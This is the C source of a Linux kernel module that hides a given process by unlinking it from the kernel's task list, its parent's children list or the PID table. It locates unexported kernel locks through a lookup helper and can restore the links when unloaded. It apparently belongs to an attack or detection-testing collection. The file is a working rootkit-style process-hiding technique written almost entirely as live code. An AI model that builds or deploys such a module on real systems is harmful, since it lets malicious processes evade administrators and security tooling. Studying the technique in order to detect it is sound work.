// SPDX-License-Identifier: Apache-2.0
/*
 * Hides process pid= by unlinking it. from=list: the list of tasks; from=pid: the table of process
 * numbers (/proc); from=both; from=children: its parent's children; from=all.
 */
#include <linux/idr.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/sched.h>
#include <linux/sched/task.h>

#include "attack.h"

static int pid;
module_param(pid, int, 0444);
static char *from = "list";
module_param(from, charp, 0444);

static struct task_struct *victim;
static struct pid *number;
static rwlock_t *tasks_lock;
static spinlock_t *numbers_lock;

static bool is(const char *what)
{
    return strcmp(from, what) == 0;
}

static void change_number(void *to)
{
    spin_lock_irq(numbers_lock);
    idr_replace(&init_pid_ns.idr, to, pid);
    spin_unlock_irq(numbers_lock);
}

static int __init mount(void)
{
    tasks_lock = (void *)lookup("tasklist_lock");
    numbers_lock = (void *)lookup("pidmap_lock");
    number = find_get_pid(pid);
    victim = get_pid_task(number, PIDTYPE_PID);
    if (tasks_lock == NULL || numbers_lock == NULL || victim == NULL)
        return -ENOENT;
    write_lock_irq(tasks_lock);
    if (is("list") || is("both") || is("all"))
        list_del_init(&victim->tasks);
    if (is("children") || is("all"))
        list_del_init(&victim->sibling);
    write_unlock_irq(tasks_lock);
    if (is("pid") || is("both") || is("all"))
        change_number(NULL);
    return 0;
}

static void __exit undo(void)
{
    change_number(number);
    write_lock_irq(tasks_lock);
    if (list_empty(&victim->tasks))
        list_add_tail_rcu(&victim->tasks, &init_task.tasks);
    if (list_empty(&victim->sibling))
        list_add_tail(&victim->sibling, &victim->real_parent->children);
    write_unlock_irq(tasks_lock);
    put_task_struct(victim);
    put_pid(number);
}

module_init(mount);
module_exit(undo);
MODULE_DESCRIPTION("hidden process");
MODULE_LICENSE("GPL");
